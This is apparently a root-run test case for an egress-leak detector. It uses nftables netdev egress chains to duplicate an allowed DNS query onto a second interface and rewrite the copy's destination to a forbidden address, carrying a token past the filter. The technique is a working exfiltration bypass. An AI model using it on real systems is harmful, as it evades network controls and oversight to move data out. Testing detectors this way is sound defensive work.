#!/usr/bin/python3
# id: b20j_nft_netdev_dup
# title: a netdev chain copies an allowed query to the other interface, whose chain rewrites it
# needs: root
# expect: detect
# why: the copy belongs to no socket
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import subprocess
def f():
    sh = lambda c: subprocess.run(c, shell=True, check=True)
    sh('nft add table netdev bpd && nft "add chain netdev bpd o { type filter hook egress device v0 priority 0 ; }" && nft "add chain netdev bpd p { type filter hook egress device v1 priority 0 ; }"')
    try:
        sh(f'nft add rule netdev bpd o ip daddr {ALLOW} udp dport 53 dup to "v1" && nft add rule netdev bpd p ip daddr {ALLOW} udp dport 53 ether daddr set ff:ff:ff:ff:ff:ff ip daddr set {FORB2}')
        socket.socket(type=socket.SOCK_DGRAM).sendto(dnsq(f'{TOK}.{ANAME}'), (ALLOW, 53)); time.sleep(.5)
    finally: subprocess.run('nft delete table netdev bpd', shell=True)
attempt(f, chan=('dns', 'pkt'))
